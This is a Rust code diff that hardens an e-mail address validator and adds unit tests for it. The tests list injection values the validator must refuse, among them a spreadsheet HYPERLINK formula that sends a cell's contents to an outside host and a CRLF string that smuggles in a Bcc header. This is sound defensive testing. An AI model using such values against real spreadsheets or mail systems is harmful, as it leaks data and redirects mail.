@@ -108,11 +108,19 @@ pub fn usable(given: Option<&str>) -> Option<String> {
     limited("", given?, URL_MAX_CHARS).ok()
 }
 
-/// An e-mail address, in lower case: one partner has one.
+/// An e-mail address, in lower case: one partner has one. Two in one text, a name around it, quotes and what a spreadsheet would compute are refused:
+/// it goes into mails' headers and into files by which many are paid at once.
 pub fn email(field: &str, given: &str) -> Checked<String> {
     let email = text(field, given)?.to_lowercase();
-    let (local, domain) = email.rsplit_once('@').unwrap_or_default();
-    if local.is_empty() || domain.is_empty() || email.contains(char::is_whitespace) {
+    let (local, domain) = email.split_once('@').unwrap_or_default();
+    let is_odd = |c: char| c.is_whitespace() || c.is_control() || "@,;:<>()[]\"\\".contains(c);
+    let is_host = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-');
+    if local.is_empty()
+        || local.starts_with(['=', '+', '-'])
+        || local.contains(is_odd)
+        || !domain.starts_with(char::is_alphanumeric)
+        || !domain.chars().all(is_host)
+    {
         return Err(CatalogError::invalid(
             field,
             "must be an e-mail address, for example alice@example.com",
@@ -214,6 +222,41 @@ pub fn within(field: &str, given: i64, least: i64, most: i64) -> Checked<i64> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn one_address_and_nothing_else_is_an_address() {
+        for (given, kept) in [
+            (" Alice@Example.com ", "alice@example.com"),
+            (
+                "o'neil+shop@mail.example.co.uk",
+                "o'neil+shop@mail.example.co.uk",
+            ),
+            ("jürgen@müller.example", "jürgen@müller.example"),
+            ("root@localhost", "root@localhost"),
+        ] {
+            assert_eq!(email("email", given).unwrap(), kept);
+        }
+        for wrong in [
+            "alice",
+            "@example.com",
+            "alice@",
+            "a b@example.com",
+            "a@@example.com",
+            "a@b@example.com",
+            "a@x.example,b@y.example",
+            "<a@x.example>",
+            "\"x,y\"@x.example",
+            "=1+1@x.example",
+            "=HYPERLINK(\"http://e/?\"&B1)&\"@x.example",
+            "-w3@x.example",
+            "+1@x.example",
+            "a@x.example\r\nBcc: b@y.example",
+            "a@.example",
+            "a@x/y.example",
+        ] {
+            assert!(email("email", wrong).is_err(), "{wrong}");
+        }
+    }
 
     #[test]
     fn a_name_keeps_its_letters_and_loses_what_turns_or_breaks_lines() {
